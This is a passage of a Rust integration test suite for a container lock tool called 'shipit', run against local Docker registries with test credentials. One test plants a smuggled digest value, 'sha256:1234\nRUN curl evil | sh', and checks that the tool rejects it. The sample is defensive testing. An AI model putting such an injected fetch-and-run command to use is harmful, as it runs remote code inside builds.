//! `shipit lock` against real registries: Debian's `docker-registry` (the
//! CNCF distribution registry) on loopback, anonymous and behind htpasswd,
//! fed with images buildah makes from scratch and pushes (a two-platform
//! index among them). Digests are checked against what skopeo reads. And
//! the other half of the contract: render and check use the lock without
//! touching the network.
//!
//! The tools come from Debian (`scripts/test.sh` installs them as root); a
//! missing one fails the test with what to install, never skips it.

mod common;

use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use common::{stderr, stdout};
use sha2::{Digest as _, Sha256};

const INSTALL: &str = "apt-get install -y docker-registry skopeo apache2-utils buildah (scripts/test.sh does it when run as root)";

fn require(tool: &str) {
    let found = Command::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .output()
        .is_ok_and(|o| o.status.success());
    assert!(found, "`{tool}` is not installed; {INSTALL}");
}

fn run(command: &mut Command) -> Output {
    let output = command
        .output()
        .unwrap_or_else(|e| panic!("cannot run {command:?}: {e}"));
    assert!(
        output.status.success(),
        "{command:?} failed:\n{}{}",
        stdout(&output),
        stderr(&output)
    );
    output
}

/// buildah with its own storage under target/, so tests never touch (or
/// wait on) the machine's image store.
fn buildah(args: &[&str]) -> String {
    let root = images().root.clone();
    buildah_in(&root, args)
}

fn buildah_in(root: &Path, args: &[&str]) -> String {
    let output = run(Command::new("buildah")
        .arg("--storage-driver=vfs")
        .arg("--root")
        .arg(root.join("storage"))
        .arg("--runroot")
        .arg(root.join("run"))
        .args(args));
    stdout(&output).trim().to_string()
}

/// Tiny images, made once per test run: one per platform, each a single
/// file on scratch, plus a spare to move a tag with.
struct Images {
    root: PathBuf,
}

fn images() -> &'static Images {
    static IMAGES: OnceLock<Images> = OnceLock::new();
    IMAGES.get_or_init(|| {
        require("buildah");
        let root = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("lock-images");
        let _ = std::fs::remove_dir_all(&root);
        std::fs::create_dir_all(&root).unwrap();
        for (name, arch, content) in [
            ("amd64", "amd64", "amd64"),
            ("arm64", "arm64", "arm64"),
            ("spare", "amd64", "a newer build"),
        ] {
            let file = root.join(format!("{name}.txt"));
            std::fs::write(&file, content).unwrap();
            let container = buildah_in(&root, &["from", "scratch"]);
            buildah_in(
                &root,
                &["config", "--arch", arch, "--os", "linux", &container],
            );
            buildah_in(
                &root,
                &["copy", &container, file.to_str().unwrap(), "/content.txt"],
            );
            buildah_in(
                &root,
                &[
                    "commit",
                    "-q",
                    &container,
                    &format!("localhost/shipit-{name}"),
                ],
            );
            buildah_in(&root, &["rm", &container]);
        }
        Images { root }
    })
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

/// A registry process on loopback, stopped (by its PID) when dropped.
struct Registry {
    child: Child,
    host: String,
    /// user:pass when it requires them.
    creds: Option<String>,
    log: PathBuf,
    dir: tempfile::TempDir,
}

impl Registry {
    fn start(auth: bool) -> Registry {
        require("htpasswd");
        let dir = tempfile::tempdir().unwrap();
        let data = dir.path().join("data");
        let (auth_config, creds) = if auth {
            let htpasswd = run(Command::new("htpasswd").args(["-Bbn", "shipit", "s3cret-pass"]));
            let file = dir.path().join("htpasswd");
            std::fs::write(&file, &htpasswd.stdout).unwrap();
            (
                format!(
                    "auth:\n  htpasswd:\n    realm: shipit-test\n    path: {}\n",
                    file.display()
                ),
                Some("shipit:s3cret-pass".to_string()),
            )
        } else {
            (String::new(), None)
        };
        Registry::serve(dir, &data, &auth_config, creds)
    }

    /// A registry in token mode, as Docker Hub, ghcr.io and quay.io are:
    /// `/v2/` answers 401 with a `Bearer realm=…` challenge, and only a
    /// token signed by `token`'s key opens a repository. It serves the
    /// images already in `data`.
    fn start_token(data: &Path, token: &TokenServer) -> Registry {
        let dir = tempfile::tempdir().unwrap();
        let auth_config = format!(
            "auth:\n  token:\n    realm: {}\n    service: {SERVICE}\n    issuer: {ISSUER}\n    rootcertbundle: {}\n",
            token.realm,
            token.cert.display()
        );
        Registry::serve(dir, data, &auth_config, None)
    }

    fn serve(
        dir: tempfile::TempDir,
        data: &Path,
        auth_config: &str,
        creds: Option<String>,
    ) -> Registry {
        require("docker-registry");
        let port = free_port();
        let host = format!("127.0.0.1:{port}");
        let config = format!(
            "version: 0.1\nlog:\n  level: info\nstorage:\n  filesystem:\n    rootdirectory: {}\nhttp:\n  addr: {host}\n{auth_config}",
            data.display()
        );
        let config_path = dir.path().join("config.yml");
        std::fs::write(&config_path, config).unwrap();
        let log = dir.path().join("registry.log");
        let child = Command::new("docker-registry")
            .arg("serve")
            .arg(&config_path)
            .stdout(std::fs::File::create(dir.path().join("stdout.log")).unwrap())
            .stderr(std::fs::File::create(&log).unwrap())
            .spawn()
            .unwrap_or_else(|e| panic!("cannot start docker-registry: {e}; {INSTALL}"));
        let registry = Registry {
            child,
            host,
            creds,
            log,
            dir,
        };
        registry.wait_ready();
        registry
    }

    fn data(&self) -> PathBuf {
        self.dir.path().join("data")
    }

    fn wait_ready(&self) {
        let deadline = Instant::now() + Duration::from_secs(10);
        while Instant::now() < deadline {
            if let Ok(mut stream) = TcpStream::connect(&self.host) {
                let _ = stream.write_all(b"GET /v2/ HTTP/1.0\r\n\r\n");
                let mut answer = String::new();
                let _ = stream.read_to_string(&mut answer);
                if answer.starts_with("HTTP/1.") {
                    return;
                }
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        panic!(
            "docker-registry did not start on {}: {}",
            self.host,
            std::fs::read_to_string(&self.log).unwrap_or_default()
        );
    }

    fn image(&self, path: &str) -> String {
        format!("{}/{path}", self.host)
    }

    fn creds_args(&self) -> Vec<String> {
        match &self.creds {
            Some(creds) => vec!["--creds".into(), creds.clone()],
            None => vec![],
        }
    }

    /// Pushes a local image to `path` (e.g. `shipit/runtime:1`).
    fn push(&self, local: &str, path: &str) {
        let target = format!("docker://{}", self.image(path));
        let mut args = vec!["push", "--tls-verify=false"];
        let creds = self.creds_args();
        args.extend(creds.iter().map(String::as_str));
        args.extend(["--format", "oci", local, &target]);
        buildah(&args);
    }

    /// Pushes a two-platform index (amd64 and arm64) to `path`.
    fn push_index(&self, path: &str) {
        let list = format!("localhost/list-{}", free_port());
        buildah(&["manifest", "create", &list]);
        for arch in ["amd64", "arm64"] {
            buildah(&[
                "manifest",
                "add",
                "--arch",
                arch,
                "--os",
                "linux",
                &list,
                &format!("containers-storage:localhost/shipit-{arch}"),
            ]);
        }
        let target = format!("docker://{}", self.image(path));
        let mut args = vec!["manifest", "push", "--all", "--tls-verify=false"];
        let creds = self.creds_args();
        args.extend(creds.iter().map(String::as_str));
        args.extend([list.as_str(), target.as_str()]);
        buildah(&args);
        buildah(&["manifest", "rm", &list]);
    }

    /// What the lock must record: sha256 of the manifest bytes as served.
    fn digest(&self, path: &str) -> String {
        require("skopeo");
        let mut command = Command::new("skopeo");
        command.args(["inspect", "--tls-verify=false", "--raw"]);
        command.args(self.creds_args());
        command.arg(format!("docker://{}", self.image(path)));
        let raw = run(&mut command).stdout;
        format!("sha256:{}", hex(&Sha256::digest(&raw)))
    }

    fn raw(&self, path: &str) -> serde_json::Value {
        let mut command = Command::new("skopeo");
        command.args(["inspect", "--tls-verify=false", "--raw"]);
        command.args(self.creds_args());
        command.arg(format!("docker://{}", self.image(path)));
        serde_json::from_slice(&run(&mut command).stdout).unwrap()
    }

    /// How many times the registry served a manifest of `repository`.
    fn manifest_requests(&self, repository: &str) -> usize {
        let log = std::fs::read_to_string(&self.log).unwrap_or_default();
        let uri = format!("http.request.uri=/v2/{repository}/manifests/");
        log.lines()
            .filter(|l| l.contains(&uri) && l.contains("http.request.method=GET"))
            .count()
    }
}

impl Drop for Registry {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

/// A project whose builder and runtime come from `registry`.
fn project(dir: &Path, builder: &str, runtime: &str) -> PathBuf {
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(dir.join("go.mod"), "module example.com/app\n\ngo 1.22\n").unwrap();
    std::fs::write(dir.join("main.go"), "package main\n\nfunc main() {}\n").unwrap();
    let manifest = dir.join("shipit.toml");
    std::fs::write(
        &manifest,
        format!(
            "name = \"app\"\nlanguage = \"go\"\n\n[build]\nimage = \"{builder}\"\n\n[runtime]\nbase = \"{runtime}\"\n"
        ),
    )
    .unwrap();
    manifest
}

/// The shipit binary with a clean environment: no Docker config but the
/// one a test gives, no insecure registries but the ones it names.
fn shipit(dir: &Path, args: &[&str], docker_config: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_shipit"))
        .args(args)
        .current_dir(dir)
        .env_remove("SHIPIT_TEMPLATES")
        .env_remove("SHIPIT_INSECURE_REGISTRIES")
        .env("DOCKER_CONFIG", docker_config)
        .env("NO_COLOR", "1")
        .output()
        .expect("the shipit binary runs")
}

fn lock_file(dir: &Path) -> toml::Table {
    let text = std::fs::read_to_string(dir.join("shipit.lock")).expect("shipit.lock written");
    toml::from_str(&text).expect("shipit.lock is TOML")
}

fn pin<'a>(lock: &'a toml::Table, reference: &str, key: &str) -> &'a toml::Value {
    &lock["images"][reference][key]
}

#[test]
fn lock_pins_the_index_digest_and_the_manifest_digest_skopeo_reads() {
    let registry = Registry::start(false);
    registry.push_index("shipit/builder:1");
    registry.push("localhost/shipit-amd64", "shipit/runtime:1");
    let (builder, runtime) = (
        registry.image("shipit/builder:1"),
        registry.image("shipit/runtime:1"),
    );

    let work = tempfile::tempdir().unwrap();
    let config = work.path().join("docker");
    let dir = work.path().join("app");
    project(&dir, &builder, &runtime);

    let output = shipit(
        &dir,
        &["lock", "--insecure-registry", &registry.host],
        &config,
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(stdout(&output).is_empty(), "lock prints nothing on stdout");

    let lock = lock_file(&dir);
    let index = registry.raw("shipit/builder:1");
    assert!(
        index["manifests"].as_array().is_some_and(|m| m.len() == 2),
        "the builder is a two-platform index: {index}"
    );
    assert_eq!(
        pin(&lock, &builder, "digest").as_str(),
        Some(registry.digest("shipit/builder:1").as_str()),
        "the index's own digest, not one platform's"
    );
    let media_type = pin(&lock, &builder, "media-type").as_str().unwrap();
    assert!(
        media_type.contains("index") || media_type.contains("list"),
        "{media_type}"
    );
    assert_eq!(
        pin(&lock, &builder, "platforms"),
        &toml::Value::from(vec!["linux/amd64", "linux/arm64"])
    );
    assert_eq!(
        pin(&lock, &runtime, "digest").as_str(),
        Some(registry.digest("shipit/runtime:1").as_str())
    );

    // Render now emits pinned references and the base-image labels.
    let output = shipit(&dir, &["render"], &config);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let text = stdout(&output);
    let builder_digest = registry.digest("shipit/builder:1");
    let runtime_digest = registry.digest("shipit/runtime:1");
    assert!(
        text.contains(&format!("{builder}@{builder_digest} AS build")),
        "{text}"
    );
    assert!(
        text.contains(&format!("FROM {runtime}@{runtime_digest}\n")),
        "{text}"
    );
    assert!(
        text.contains(&format!(
            "LABEL org.opencontainers.image.base.name=\"{runtime}\" \\\n      org.opencontainers.image.base.digest=\"{runtime_digest}\""
        )),
        "{text}"
    );
    assert!(text.contains("ARG BUILDKIT_SBOM_SCAN_STAGE=true"), "{text}");

    // The same pins again: the file is left alone, byte for byte.
    let before = std::fs::read(dir.join("shipit.lock")).unwrap();
    let output = Command::new(env!("CARGO_BIN_EXE_shipit"))
        .arg("lock")
        .current_dir(&dir)
        .env(
            "SHIPIT_INSECURE_REGISTRIES",
            format!("example.invalid, {}", registry.host),
        )
        .env("DOCKER_CONFIG", &config)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(stderr(&output).contains("unchanged"), "{}", stderr(&output));
    assert_eq!(std::fs::read(dir.join("shipit.lock")).unwrap(), before);
}

#[test]
fn update_moves_pins_and_a_plain_lock_keeps_them() {
    let registry = Registry::start(false);
    registry.push_index("shipit/builder:1");
    registry.push("localhost/shipit-amd64", "shipit/runtime:1");
    let work = tempfile::tempdir().unwrap();
    let config = work.path().join("docker");
    let dir = work.path().join("app");
    let runtime = registry.image("shipit/runtime:1");
    project(&dir, &registry.image("shipit/builder:1"), &runtime);
    let lock = |extra: &[&str]| {
        let mut args = vec!["lock", "--insecure-registry", &registry.host];
        args.extend(extra);
        let output = shipit(&dir, &args, &config);
        assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
        output
    };

    lock(&[]);
    let first = registry.digest("shipit/runtime:1");
    assert_eq!(
        pin(&lock_file(&dir), &runtime, "digest").as_str(),
        Some(first.as_str())
    );

    // The tag moves, as `golang:1.25` does every week.
    registry.push("localhost/shipit-spare", "shipit/runtime:1");
    let moved = registry.digest("shipit/runtime:1");
    assert_ne!(first, moved);

    let output = lock(&[]);
    assert!(stderr(&output).contains("kept"), "{}", stderr(&output));
    assert_eq!(
        pin(&lock_file(&dir), &runtime, "digest").as_str(),
        Some(first.as_str())
    );

    let output = lock(&["--update"]);
    assert!(stderr(&output).contains("updated"), "{}", stderr(&output));
    assert_eq!(
        pin(&lock_file(&dir), &runtime, "digest").as_str(),
        Some(moved.as_str())
    );

    // A reference the render no longer uses leaves the lock.
    let builder = registry.image("shipit/builder:1");
    project(&dir, &builder, &builder);
    let output = lock(&[]);
    assert!(
        stderr(&output).contains(&format!("removed  {runtime}")),
        "{}",
        stderr(&output)
    );
    let images = lock_file(&dir)["images"].as_table().unwrap().clone();
    assert_eq!(images.keys().collect::<Vec<_>>(), [&builder]);

    // A broken lock stops a plain lock, but `--update` writes it anew.
    std::fs::write(dir.join("shipit.lock"), "version = 1\nimages = 3\n").unwrap();
    let output = shipit(
        &dir,
        &["lock", "--insecure-registry", &registry.host],
        &config,
    );
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    let output = lock(&["--update"]);
    assert!(
        stderr(&output).contains("writing it anew"),
        "{}",
        stderr(&output)
    );
    assert!(lock_file(&dir)["images"].get(&builder).is_some());
}

#[test]
fn credentials_come_from_docker_config_and_never_reach_the_lock() {
    let registry = Registry::start(true);
    registry.push_index("private/builder:1");
    registry.push("localhost/shipit-amd64", "private/runtime:1");
    let work = tempfile::tempdir().unwrap();
    let dir = work.path().join("app");
    let (builder, runtime) = (
        registry.image("private/builder:1"),
        registry.image("private/runtime:1"),
    );
    project(&dir, &builder, &runtime);
    let host = registry.host.as_str();
    let lock_args = ["lock", "--insecure-registry", host];

    // No credentials: exit 2, says what to do, writes nothing.
    let empty = work.path().join("no-docker-config");
    let output = shipit(&dir, &lock_args, &empty);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains(&format!(
            "no credentials for {host}: run `docker login {host}`"
        )),
        "{}",
        stderr(&output)
    );
    assert!(!dir.join("shipit.lock").exists());

    // `auths`, as `docker login` writes them.
    let config = work.path().join("docker");
    std::fs::create_dir_all(&config).unwrap();
    let auth = base64(b"shipit:s3cret-pass");
    std::fs::write(
        config.join("config.json"),
        format!(r#"{{"auths": {{"{host}": {{"auth": "{auth}"}}}}}}"#),
    )
    .unwrap();
    let output = shipit(&dir, &lock_args, &config);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let text = std::fs::read_to_string(dir.join("shipit.lock")).unwrap();
    for secret in ["s3cret-pass", auth.as_str(), "shipit:"] {
        assert!(
            !text.contains(secret),
            "`{secret}` leaked into shipit.lock:\n{text}"
        );
    }
    assert_eq!(
        pin(&lock_file(&dir), &builder, "digest").as_str(),
        Some(registry.digest("private/builder:1").as_str())
    );

    // A credential store: `docker-credential-NAME get`, fed the host.
    let helpers = work.path().join("helpers");
    std::fs::create_dir_all(&helpers).unwrap();
    let helper = helpers.join("docker-credential-shipittest");
    std::fs::write(
        &helper,
        format!(
            "#!/bin/sh\nread server\n[ \"$server\" = \"{host}\" ] || {{ echo 'credentials not found in native keychain'; exit 1; }}\necho '{{\"ServerURL\":\"{host}\",\"Username\":\"shipit\",\"Secret\":\"s3cret-pass\"}}'\n"
        ),
    )
    .unwrap();
    run(Command::new("chmod").arg("755").arg(&helper));
    let path = format!(
        "{}:{}",
        helpers.display(),
        std::env::var("PATH").unwrap_or_default()
    );
    // The store for every host, then a helper for this host only (the
    // store would answer "not found" for it).
    for config_json in [
        r#"{"credsStore": "shipittest"}"#.to_string(),
        format!(r#"{{"credsStore": "none-such", "credHelpers": {{"{host}": "shipittest"}}}}"#),
    ] {
        std::fs::write(config.join("config.json"), &config_json).unwrap();
        std::fs::remove_file(dir.join("shipit.lock")).unwrap();
        let output = Command::new(env!("CARGO_BIN_EXE_shipit"))
            .args(lock_args)
            .current_dir(&dir)
            .env("DOCKER_CONFIG", &config)
            .env("PATH", &path)
            .output()
            .unwrap();
        assert_eq!(
            output.status.code(),
            Some(0),
            "{config_json}: {}",
            stderr(&output)
        );
        let text = std::fs::read_to_string(dir.join("shipit.lock")).unwrap();
        assert!(!text.contains("s3cret-pass"), "{text}");
    }

    // Wrong credentials: refused, and said so.
    std::fs::write(
        config.join("config.json"),
        format!(
            r#"{{"auths": {{"{host}": {{"auth": "{}"}}}}}}"#,
            base64(b"shipit:wrong")
        ),
    )
    .unwrap();
    let output = shipit(
        &dir,
        &["lock", "--update", "--insecure-registry", host],
        &config,
    );
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains(&format!("{host} refused the credentials")),
        "{}",
        stderr(&output)
    );
}

#[test]
fn lock_all_looks_each_image_up_once_and_names_missing_images() {
    let registry = Registry::start(false);
    registry.push_index("shipit/builder:1");
    registry.push("localhost/shipit-amd64", "shipit/runtime:1");
    let work = tempfile::tempdir().unwrap();
    let config = work.path().join("docker");
    let (builder, runtime) = (
        registry.image("shipit/builder:1"),
        registry.image("shipit/runtime:1"),
    );
    for name in ["a", "b", "c"] {
        project(&work.path().join("tree").join(name), &builder, &runtime);
    }
    let before = registry.manifest_requests("shipit/builder");
    let output = shipit(
        work.path(),
        &[
            "lock",
            "--all",
            "tree",
            "--insecure-registry",
            &registry.host,
        ],
        &config,
    );
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert_eq!(
        registry.manifest_requests("shipit/builder") - before,
        1,
        "one lookup for three manifests"
    );
    let digest = registry.digest("shipit/builder:1");
    for name in ["a", "b", "c"] {
        let lock = lock_file(&work.path().join("tree").join(name));
        assert_eq!(
            pin(&lock, &builder, "digest").as_str(),
            Some(digest.as_str())
        );
    }

    // An image the registry does not have: exit 2, named, nothing written.
    let dir = work.path().join("missing");
    project(&dir, &builder, &registry.image("shipit/nothing:1"));
    let output = shipit(
        &dir,
        &["lock", "--insecure-registry", &registry.host],
        &config,
    );
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains(&format!(
            "`{}`: not found on {}",
            registry.image("shipit/nothing:1"),
            registry.host
        )),
        "{}",
        stderr(&output)
    );
    assert!(!dir.join("shipit.lock").exists());

    // Plain HTTP only for the hosts the user names.
    let output = shipit(&work.path().join("tree/a"), &["lock", "--update"], &config);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains(&format!("--insecure-registry {}", registry.host)),
        "{}",
        stderr(&output)
    );
}

fn base64(bytes: &[u8]) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

const DIGEST_A: &str = "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
const DIGEST_B: &str = "sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";

/// A lock written by hand, as `shipit lock` would for these references.
fn write_lock(dir: &Path, pins: &[(&str, &str)]) {
    let mut text = String::from("version = 1\n");
    for (reference, digest) in pins {
        text.push_str(&format!(
            "\n[images.\"{reference}\"]\nname = \"docker.io/library/{reference}\"\ndigest = \"{digest}\"\nmedia-type = \"application/vnd.oci.image.index.v1+json\"\n"
        ));
    }
    std::fs::write(dir.join("shipit.lock"), text).unwrap();
}

#[test]
fn check_reports_an_image_the_lock_does_not_pin() {
    let work = tempfile::tempdir().unwrap();
    let dir = work.path();
    let config = dir.join("docker");
    project(dir, "golang:1.25", "alpine:3.22");
    write_lock(dir, &[("golang:1.25", DIGEST_A)]);

    let output = shipit(dir, &["render", "-o", "Dockerfile"], &config);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    assert!(
        stderr(&output)
            .contains("warning: `shipit.lock` does not pin `alpine:3.22`; run `shipit lock"),
        "{}",
        stderr(&output)
    );
    let text = std::fs::read_to_string(dir.join("Dockerfile")).unwrap();
    assert!(
        text.contains(&format!("golang:1.25@{DIGEST_A} AS build")),
        "{text}"
    );
    assert!(text.contains("FROM alpine:3.22\n"), "{text}");
    assert!(
        !text.contains("org.opencontainers.image.base.digest"),
        "{text}"
    );

    // The Dockerfile matches its render, but the render uses a moving tag.
    let output = shipit(dir, &["check"], &config);
    assert_eq!(output.status.code(), Some(1), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("does not pin `alpine:3.22`; run `shipit lock -m shipit.toml`"),
        "{}",
        stderr(&output)
    );
    let output = shipit(dir, &["check", "--format", "json"], &config);
    let reports: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(reports[0]["reason"], "unpinned");

    // Pinned, and rendered again: clean.
    write_lock(dir, &[("golang:1.25", DIGEST_A), ("alpine:3.22", DIGEST_B)]);
    let output = shipit(dir, &["check"], &config);
    assert_eq!(output.status.code(), Some(1), "the lock changed the render");
    run(Command::new(env!("CARGO_BIN_EXE_shipit"))
        .args(["render", "-o", "Dockerfile"])
        .current_dir(dir));
    let output = shipit(dir, &["check"], &config);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let text = std::fs::read_to_string(dir.join("Dockerfile")).unwrap();
    assert!(
        text.contains(&format!(
            "LABEL org.opencontainers.image.base.name=\"docker.io/library/alpine:3.22\" \\\n      org.opencontainers.image.base.digest=\"{DIGEST_B}\""
        )),
        "{text}"
    );

    // Without a lock, an unpinned render is no drift.
    std::fs::remove_file(dir.join("shipit.lock")).unwrap();
    run(Command::new(env!("CARGO_BIN_EXE_shipit"))
        .args(["render", "-o", "Dockerfile"])
        .current_dir(dir));
    let output = shipit(dir, &["check"], &config);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
}

#[test]
fn a_lock_that_is_not_one_is_an_error_naming_it() {
    let work = tempfile::tempdir().unwrap();
    let dir = work.path();
    project(dir, "golang:1.25", "alpine:3.22");
    std::fs::write(
        dir.join("shipit.lock"),
        "version = 1\n[images.\"golang:1.25\"]\nname = \"x\"\ndigest = \"sha256:1234\\nRUN curl evil | sh\"\nmedia-type = \"x\"\n",
    )
    .unwrap();
    for command in [&["render"][..], &["check"], &["lock"]] {
        let output = shipit(dir, command, &dir.join("docker"));
        assert_eq!(output.status.code(), Some(2), "{command:?}");
        assert!(
            stderr(&output).contains("the digest of `golang:1.25`")
                && stderr(&output).contains("run `shipit lock --update`"),
            "{command:?}: {}",
            stderr(&output)
        );
        assert!(stdout(&output).is_empty());
    }
}

/// Render and check run in a network namespace with no interface up; lock
/// there cannot even reach loopback, which proves the namespace is real.
#[test]
fn render_and_check_never_touch_the_network() {
    require("unshare");
    let registry = Registry::start(false);
    registry.push("localhost/shipit-amd64", "shipit/runtime:1");
    let work = tempfile::tempdir().unwrap();
    let dir = work.path();
    let config = dir.join("docker");
    project(dir, "golang:1.25", &registry.image("shipit/runtime:1"));
    write_lock(dir, &[("golang:1.25", DIGEST_A)]);
    let lock = shipit(
        dir,
        &["lock", "--insecure-registry", &registry.host],
        &config,
    );
    assert_eq!(lock.status.code(), Some(0), "{}", stderr(&lock));

    let offline = |args: &[&str]| {
        let output = Command::new("unshare")
            .arg("-n")
            .arg(env!("CARGO_BIN_EXE_shipit"))
            .args(args)
            .current_dir(dir)
            .env("DOCKER_CONFIG", &config)
            .env("NO_COLOR", "1")
            .stdin(Stdio::null())
            .output()
            .expect("unshare runs");
        assert!(
            !stderr(&output).contains("unshare failed"),
            "`unshare -n` needs root (or CAP_SYS_ADMIN): {}",
            stderr(&output)
        );
        output
    };
    let output = offline(&["render", "-o", "Dockerfile"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let text = std::fs::read_to_string(dir.join("Dockerfile")).unwrap();
    assert!(
        text.contains(&registry.digest("shipit/runtime:1")),
        "{text}"
    );
    let output = offline(&["check"]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));

    let output = offline(&["lock", "--update", "--insecure-registry", &registry.host]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains(&format!("cannot reach {}", registry.host)),
        "{}",
        stderr(&output)
    );
}

/// BuildKit reads `BUILDKIT_SBOM_SCAN_STAGE` from a stage's ARGs: every
/// example declares it in its build stage, and only there.
#[test]
fn every_build_stage_asks_for_an_sbom_scan() {
    let texts: Vec<String> = common::example_manifests()
        .iter()
        .map(|m| std::fs::read_to_string(m.with_file_name("Dockerfile")).unwrap())
        .collect();
    for (text, parsed) in texts.iter().zip(common::parse_dockerfiles(&texts)) {
        let instructions = parsed.unwrap_or_else(|e| panic!("{e}:\n{text}"));
        let stages: Vec<&[common::Instruction]> = {
            let starts: Vec<usize> = instructions
                .iter()
                .enumerate()
                .filter(|(_, i)| i.cmd == "FROM")
                .map(|(n, _)| n)
                .chain([instructions.len()])
                .collect();
            starts
                .windows(2)
                .map(|w| &instructions[w[0]..w[1]])
                .collect()
        };
        let scans = |stage: &[common::Instruction]| {
            stage
                .iter()
                .any(|i| i.cmd == "ARG" && i.value == ["BUILDKIT_SBOM_SCAN_STAGE=true"])
        };
        // The stage named `build` (Rust prepares it in stages before it).
        let is_build = |stage: &&[common::Instruction]| {
            stage[0].value.len() == 3 && stage[0].value[1..] == ["AS", "build"]
        };
        let build = stages.iter().position(is_build);
        let build = build.unwrap_or_else(|| panic!("no stage `build`:\n{text}"));
        assert!(
            scans(stages[build]),
            "the build stage does not ask for a scan:\n{text}"
        );
        assert!(
            !stages
                .iter()
                .enumerate()
                .any(|(n, s)| n != build && scans(s)),
            "another stage asks for a scan:\n{text}"
        );
    }
}

/// A registry that keeps answering 503: the lookup is tried 4 times with
/// backoff, then fails naming the image, the host and the answer.
#[test]
fn a_failing_registry_is_retried_then_named() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let host = listener.local_addr().unwrap().to_string();
    let manifest_gets = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counter = manifest_gets.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut head = Vec::new();
            let mut byte = [0u8; 1];
            while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).is_ok_and(|n| n == 1) {
                head.push(byte[0]);
            }
            if head.starts_with(b"GET /v2/busy/manifests/") {
                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            }
            let _ = stream.write_all(
                b"HTTP/1.1 503 Service Unavailable\r\nContent-Length: 4\r\nConnection: close\r\n\r\nbusy",
            );
        }
    });
    let work = tempfile::tempdir().unwrap();
    let dir = work.path();
    project(dir, "golang:1.25", &format!("{host}/busy:1"));
    write_lock(dir, &[("golang:1.25", DIGEST_A)]);
    let started = Instant::now();
    let output = shipit(
        dir,
        &["lock", "--insecure-registry", &host],
        &dir.join("docker"),
    );
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains(&format!(
            "`{host}/busy:1`: cannot reach {host} after 4 attempts: HTTP 503: busy"
        )),
        "{}",
        stderr(&output)
    );
    assert_eq!(manifest_gets.load(std::sync::atomic::Ordering::SeqCst), 4);
    // 0.25 + 0.5 + 1 s of backoff between the attempts.
    assert!(started.elapsed() >= Duration::from_millis(1750));
    assert!(
        !std::fs::read_to_string(dir.join("shipit.lock"))
            .unwrap()
            .contains("busy")
    );
}

const SERVICE: &str = "shipit-test";
const ISSUER: &str = "shipit-test-issuer";

/// A token server for a registry in token mode: answers every request
/// with one JWT, signed (RS256, openssl) by a self-signed certificate the
/// registry trusts, granting `pull` on the given repositories. It records
/// the requests, so a test can see the scope it was asked for.
struct TokenServer {
    realm: String,
    cert: PathBuf,
    requests: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
    _dir: tempfile::TempDir,
}

impl TokenServer {
    fn start(repositories: &[&str]) -> TokenServer {
        use base64::Engine as _;
        use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
        require("openssl");
        let dir = tempfile::tempdir().unwrap();
        let (key, cert) = (dir.path().join("key.pem"), dir.path().join("cert.pem"));
        run(Command::new("openssl")
            .args([
                "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
            ])
            .args(["-subj", "/CN=shipit-token"])
            .arg("-keyout")
            .arg(&key)
            .arg("-out")
            .arg(&cert));
        let der = run(Command::new("openssl")
            .args(["x509", "-outform", "DER", "-in"])
            .arg(&cert))
        .stdout;
        let now = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_secs();
        let header =
            serde_json::json!({"typ": "JWT", "alg": "RS256", "x5c": [STANDARD.encode(der)]});
        let access: Vec<serde_json::Value> = repositories
            .iter()
            .map(
                |name| serde_json::json!({"type": "repository", "name": name, "actions": ["pull"]}),
            )
            .collect();
        let claims = serde_json::json!({
